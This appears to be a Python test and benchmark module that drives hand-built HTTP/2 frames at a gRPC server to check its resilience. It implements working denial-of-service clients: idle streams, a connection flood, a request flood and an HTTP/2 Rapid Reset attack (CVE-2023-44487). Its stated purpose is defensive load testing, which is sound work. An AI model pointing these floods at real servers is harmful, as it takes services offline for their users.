"""Hostile HTTP/2 clients, for `make bench BENCH_ARGS=--attack` and the tests that hold the server against them.

Each attack is a context manager that runs in threads of this process while the caller measures legitimate
traffic (`Legit`) on connections of its own:

- `IdleStreams`: many connections, each opening streams that then stay silent: server-reflection streams that
  asked one question and wait, or header-only calls that never send their request message.
- `RapidReset`: one connection opening a stream and resetting it at once, as fast as it can (CVE-2023-44487),
  reconnecting when the server closes the connection.
- `ConnectionFlood`: many connections that finish the HTTP/2 handshake and then do nothing.
- `RequestFlood`: many connections, each keeping several complete calls open and opening a new one as soon as the
  server ends one, as h2load does (`-c 25 -m 10`), without needing h2load.

The frames are written by hand (hpack encodes the headers once): a loop of `h2` state-machine calls is too slow
to reset streams at an attacker's rate from Python.
"""

from __future__ import annotations

import contextlib
import socket
import struct
import threading
import time
from dataclasses import dataclass, field

import grpc
import hpack
from grpc_health.v1 import health_pb2, health_pb2_grpc

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL, REFUSED_STREAM = 0x8, 0x7
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
RECOMMEND = "/gpuadvisor.v1.GpuAdvisor/Recommend"


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def header_block(authority: str, path: str) -> bytes:
    """A self-contained HPACK block (a fresh encoder refers to no earlier block), so it can be sent again."""
    return hpack.Encoder().encode([
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers"),
    ])


def grpc_message(payload: bytes) -> bytes:
    return b"\0" + len(payload).to_bytes(4, "big") + payload


class RawConnection:
    """One HTTP/2 connection driven frame by frame. `pump()` reads what the server sent: SETTINGS and PING are
    acknowledged, GOAWAY and the server's ends of streams (RST_STREAM, trailers) are counted."""

    def __init__(self, host: str, port: int, timeout: float = 10.0):
        self.sock = socket.create_connection((host, port), timeout=timeout)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.authority = f"{host}:{port}"
        self.goaway = False
        self.closed = False
        self.ended_streams = 0  # streams the server ended: RST_STREAM or HEADERS with END_STREAM
        self.refused_streams = 0  # of which RST_STREAM REFUSED_STREAM
        self._buf = b""
        self.send(PREFACE + _frame(SETTINGS, 0, 0))
        self.sock.setblocking(False)

    def send(self, data: bytes) -> bool:
        if self.closed:
            return False
        try:
            self.sock.setblocking(True)
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False
        finally:
            with contextlib.suppress(OSError):
                self.sock.setblocking(False)

    def pump(self) -> None:
        while not self.closed:
            try:
                chunk = self.sock.recv(65536)
            except (BlockingIOError, InterruptedError):
                break
            except OSError:
                self.closed = True
                break
            if not chunk:
                self.closed = True
                break
            self._buf += chunk
        replies = b""
        while len(self._buf) >= 9:
            length = int.from_bytes(self._buf[:3], "big")
            if len(self._buf) < 9 + length:
                break
            kind, flags = self._buf[3], self._buf[4]
            stream = int.from_bytes(self._buf[5:9], "big") & 0x7FFFFFFF
            payload = self._buf[9:9 + length]
            self._buf = self._buf[9 + length:]
            if kind == SETTINGS and not flags & ACK:
                replies += _frame(SETTINGS, ACK, 0)
            elif kind == PING and not flags & ACK:
                replies += _frame(PING, ACK, 0, payload)
            elif kind == GOAWAY:
                self.goaway = True
            elif kind == RST_STREAM or (kind == HEADERS and flags & END_STREAM):
                self.ended_streams += 1
                self.refused_streams += kind == RST_STREAM and payload == REFUSED_STREAM.to_bytes(4, "big")
            elif kind == DATA and length:
                # Give the window back, so the server can go on sending answers on the connection and stream.
                replies += _frame(WINDOW_UPDATE, 0, 0, length.to_bytes(4, "big"))
                replies += _frame(WINDOW_UPDATE, 0, stream, length.to_bytes(4, "big"))
        if replies:
            self.send(replies)

    def close(self) -> None:
        self.closed = True
        with contextlib.suppress(OSError):
            self.sock.close()


class _Background:
    """Runs `_run` in a thread from `__enter__` until `__exit__`."""

    def __init__(self) -> None:
        self.stop = threading.Event()
        self.error: BaseException | None = None
        self._thread = threading.Thread(target=self._guarded, name=type(self).__name__, daemon=True)

    def _guarded(self) -> None:
        try:
            self._run()
        except BaseException as exc:  # noqa: BLE001 - reported by the caller, never lost in a thread
            self.error = exc

    def _run(self) -> None:
        raise NotImplementedError

    def __enter__(self) -> _Background:
        self._thread.start()
        return self

    def __exit__(self, *_exc: object) -> None:
        self.stop.set()
        self._thread.join(30)


class IdleStreams(_Background):
    """`connections` connections, each opening `streams` streams that then stay silent. kind "reflection": each
    stream asks the reflection service to list services once, then waits; "headers": each stream sends only its
    request headers, never the message (`path`: which method). `reopen`: open a new stream whenever the server
    ends one, as a persistent attacker would."""

    def __init__(self, host: str, port: int, connections: int, streams: int = 2, kind: str = "headers",
                 path: str = RECOMMEND, reopen: bool = False):
        super().__init__()
        self.host, self.port, self.connections, self.streams = host, port, connections, streams
        self.kind, self.reopen = kind, reopen
        self.path = REFLECTION if kind == "reflection" else path
        self.conns: list[RawConnection] = []
        self.opened = 0
        self.refused_connections = 0
        self.ready = threading.Event()

    def _open_stream(self, conn: RawConnection, stream_id: int) -> None:
        block = header_block(conn.authority, self.path)
        data = _frame(HEADERS, END_HEADERS, stream_id, block)
        if self.kind == "reflection":
            from grpc_reflection.v1alpha import reflection_pb2

            ask = reflection_pb2.ServerReflectionRequest(list_services="").SerializeToString()
            data += _frame(DATA, 0, stream_id, grpc_message(ask))
        if conn.send(data):
            self.opened += 1

    def _run(self) -> None:
        next_id: dict[int, int] = {}
        for _ in range(self.connections):
            try:
                conn = RawConnection(self.host, self.port)
            except OSError:
                self.refused_connections += 1
                continue
            self.conns.append(conn)
            next_id[id(conn)] = 1
            for _ in range(self.streams):
                self._open_stream(conn, next_id[id(conn)])
                next_id[id(conn)] += 2
        self.ready.set()
        seen: dict[int, int] = {}
        while not self.stop.wait(0.05):
            for conn in self.conns:
                conn.pump()
                if self.reopen and not conn.closed and not conn.goaway:
                    for _ in range(conn.ended_streams - seen.get(id(conn), 0)):
                        self._open_stream(conn, next_id[id(conn)])
                        next_id[id(conn)] += 2
                seen[id(conn)] = conn.ended_streams
        for conn in self.conns:
            conn.close()

    @property
    def ended_streams(self) -> int:
        return sum(c.ended_streams for c in self.conns)

    @property
    def closed_connections(self) -> int:
        return sum(1 for c in self.conns if c.closed or c.goaway)


class RapidReset(_Background):
    """Open a stream and reset it at once, in batches, as fast as this thread can; when the server sends
    GOAWAY or closes the connection, count it and connect again."""

    BATCH = 64

    def __init__(self, host: str, port: int, path: str = RECOMMEND):
        super().__init__()
        self.host, self.port, self.path = host, port, path
        self.resets = 0
        self.connections = 0
        self.goaways = 0  # connections the server ended (GOAWAY or closed)
        self.first_goaway_after: int | None = None  # resets sent on the first connection before it ended

    def _run(self) -> None:
        while not self.stop.is_set():
            try:
                conn = RawConnection(self.host, self.port)
            except OSError:
                time.sleep(0.05)
                continue
            self.connections += 1
            block = header_block(conn.authority, self.path)
            stream, sent_here = 1, 0
            while not self.stop.is_set() and not conn.closed and not conn.goaway:
                batch = bytearray()
                for _ in range(self.BATCH):
                    batch += _frame(HEADERS, END_HEADERS, stream, block)
                    batch += _frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
                    stream += 2
                if not conn.send(bytes(batch)):
                    break
                self.resets += self.BATCH
                sent_here += self.BATCH
                conn.pump()
                if stream > 2**31 - 2 * self.BATCH - 1:
                    break
            if conn.closed or conn.goaway:
                self.goaways += 1
                if self.first_goaway_after is None:
                    self.first_goaway_after = sent_here
            conn.close()


class ConnectionFlood(_Background):
    """`connections` connections that complete the HTTP/2 preface and then stay silent."""

    def __init__(self, host: str, port: int, connections: int):
        super().__init__()
        self.host, self.port, self.connections = host, port, connections
        self.conns: list[RawConnection] = []
        self.refused = 0
        self.ready = threading.Event()

    def _run(self) -> None:
        for _ in range(self.connections):
            try:
                self.conns.append(RawConnection(self.host, self.port))
            except OSError:
                self.refused += 1
        self.ready.set()
        while not self.stop.wait(0.2):
            for conn in self.conns:
                conn.pump()
        for conn in self.conns:
            conn.close()

    @property
    def closed_by_server(self) -> int:
        return sum(1 for c in self.conns if c.closed or c.goaway)


class RequestFlood(_Background):
    """`connections` connections, each keeping `streams` complete calls (`path`, one request message `body`)
    open: whenever the server ends one (answer, refusal or RST_STREAM), a new one goes out at once."""

    def __init__(self, host: str, port: int, body: bytes, connections: int = 25, streams: int = 10,
                 path: str = RECOMMEND):
        super().__init__()
        self.host, self.port, self.body, self.path = host, port, body, path
        self.connections, self.streams = connections, streams
        self.conns: list[RawConnection] = []
        self.sent = 0
        self.ready = threading.Event()

    def _open(self, conn: RawConnection, stream_id: int, block: bytes) -> None:
        data = _frame(HEADERS, END_HEADERS, stream_id, block) + _frame(DATA, END_STREAM, stream_id,
                                                                        grpc_message(self.body))
        if conn.send(data):
            self.sent += 1

    def _run(self) -> None:
        next_id: dict[int, int] = {}
        seen: dict[int, int] = {}
        blocks: dict[int, bytes] = {}
        while not self.stop.is_set():
            self.conns = [c for c in self.conns if not (c.closed or c.goaway)]
            while len(self.conns) < self.connections and not self.stop.is_set():
                try:
                    conn = RawConnection(self.host, self.port)
                except OSError:
                    self.stop.wait(0.05)
                    break
                self.conns.append(conn)
                next_id[id(conn)], seen[id(conn)] = 1, 0
                block = blocks[id(conn)] = header_block(conn.authority, self.path)
                for _ in range(self.streams):
                    self._open(conn, next_id[id(conn)], block)
                    next_id[id(conn)] += 2
            self.ready.set()
            self.stop.wait(0.005)
            for conn in self.conns:
                conn.pump()
                for _ in range(conn.ended_streams - seen[id(conn)]):
                    self._open(conn, next_id[id(conn)], blocks[id(conn)])
                    next_id[id(conn)] += 2
                seen[id(conn)] = conn.ended_streams
        for conn in self.conns:
            conn.close()

    @property
    def ended_streams(self) -> int:
        return sum(c.ended_streams for c in self.conns)


# -- legitimate traffic ------------------------------------------------------------------------------------


@dataclass
class Outcomes:
    ok: int = 0
    codes: dict[str, int] = field(default_factory=dict)
    latencies_ms: list[float] = field(default_factory=list)

    @property
    def total(self) -> int:
        return self.ok + sum(self.codes.values())

    @property
    def ok_share(self) -> float:
        return self.ok / self.total if self.total else float("nan")

    def pct(self, q: float) -> float:
        if not self.latencies_ms:
            return float("nan")
        s = sorted(self.latencies_ms)
        return s[min(len(s) - 1, int(q * len(s)))]

    def __str__(self) -> str:
        others = ", ".join(f"{k} {v}" for k, v in sorted(self.codes.items()))
        return f"{self.ok}/{self.total} OK{' (' + others + ')' if others else ''}"


class Legit(_Background):
    """Ordinary clients on connections of their own: `callers` sequential Recommend loops (`request`, a
    RecommendRequest) with a `recommend_timeout`, and a health Check every `health_every` seconds with a
    `health_timeout`, like a Kubernetes probe. Each outcome is counted; latencies are of OK calls."""

    def __init__(self, addr: str, request: object, callers: int = 2, recommend_timeout: float = 3.0,
                 health_every: float = 0.02, health_timeout: float = 2.0, health_addr: str = ""):
        super().__init__()
        self.addr, self.request, self.callers = addr, request, callers
        self.recommend_timeout, self.health_every, self.health_timeout = recommend_timeout, health_every, health_timeout
        self.health_addr = health_addr or addr
        self.recommend = Outcomes()
        self.health = Outcomes()
        self._lock = threading.Lock()

    def _count(self, into: Outcomes, started: float, error: grpc.RpcError | None) -> None:
        with self._lock:
            if error is None:
                into.ok += 1
                into.latencies_ms.append((time.perf_counter() - started) * 1000)
            else:
                name = error.code().name if error.code() else "UNKNOWN"
                into.codes[name] = into.codes.get(name, 0) + 1

    def _recommend_loop(self) -> None:
        from ..wire.api import pb_grpc

        with grpc.insecure_channel(self.addr, options=[("grpc.use_local_subchannel_pool", 1)]) as ch:
            stub = pb_grpc.GpuAdvisorStub(ch)
            while not self.stop.is_set():
                started = time.perf_counter()
                try:
                    stub.Recommend(self.request, timeout=self.recommend_timeout)
                    self._count(self.recommend, started, None)
                except grpc.RpcError as err:
                    self._count(self.recommend, started, err)
                    self.stop.wait(0.05)

    def _run(self) -> None:
        loops = [threading.Thread(target=self._recommend_loop, daemon=True) for _ in range(self.callers)]
        for t in loops:
            t.start()
        with grpc.insecure_channel(self.health_addr, options=[("grpc.use_local_subchannel_pool", 1)]) as ch:
            stub = health_pb2_grpc.HealthStub(ch)
            next_at = time.perf_counter()
            while not self.stop.is_set():
                started = time.perf_counter()
                try:
                    stub.Check(health_pb2.HealthCheckRequest(), timeout=self.health_timeout)
                    self._count(self.health, started, None)
                except grpc.RpcError as err:
                    self._count(self.health, started, err)
                next_at = max(next_at + self.health_every, time.perf_counter())
                self.stop.wait(max(0.0, next_at - time.perf_counter()))
        for t in loops:
            t.join(self.recommend_timeout + 5)


def rss_mb(pid: int) -> float:
    try:
        for line in open(f"/proc/{pid}/status", encoding="ascii"):  # noqa: SIM115
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return float("nan")


def threads(pid: int) -> int:
    try:
        for line in open(f"/proc/{pid}/status", encoding="ascii"):  # noqa: SIM115
            if line.startswith("Threads:"):
                return int(line.split()[1])
    except OSError:
        pass
    return 0
